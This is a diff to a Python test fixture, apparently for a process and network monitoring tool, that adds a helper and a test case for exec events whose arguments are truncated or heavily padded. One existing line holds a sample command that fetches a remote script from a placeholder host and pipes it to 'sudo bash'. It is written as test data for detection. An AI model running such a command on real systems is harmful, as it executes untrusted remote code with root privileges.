@@ -26,6 +26,12 @@ def exec_(exe, *args, comm=None):
     return {"kind": "exec", "proc": proc(exe, *args, comm=comm)}
 
 
+def truncated(exe, *args):
+    r = exec_(exe, *args)
+    r["proc"]["args_truncated"] = True
+    return r
+
+
 def connect(addr, port, scope, name=None, proto="tcp", verdict="allowed", exe="/usr/bin/python3.11"):
     return {"kind": "connect", "proc": proc(exe, exe), "net": {
         "proto": proto, "family": "ipv6" if ":" in addr else "ipv4", "src": {"addr": "10.42.0.17", "port": 40001},
@@ -176,6 +182,9 @@ CASES = {
          exec_("/usr/bin/bash", "bash", "-c", "wget -qO- http://x/i.sh | sudo bash")],
         [exec_("/usr/bin/sh", "sh", "-c", "curl -fsSL -o out.tgz https://x/out.tgz && tar xzf out.tgz"),
          exec_("/usr/bin/bash", "bash", "-c", "cat log | grep shard")]),
+    "exec-args-truncated": (
+        [truncated("/usr/bin/ssh", "ssh", "-o" + "x" * 4080), truncated("/bin/sh", "sh", "-c", ":" + " " * 4090)],
+        [exec_("/bin/sh", "sh", "-c", ":" + " " * 100), truncated("/usr/bin/ld", "ld", *["a.o"] * 1200)]),
 }
 
 
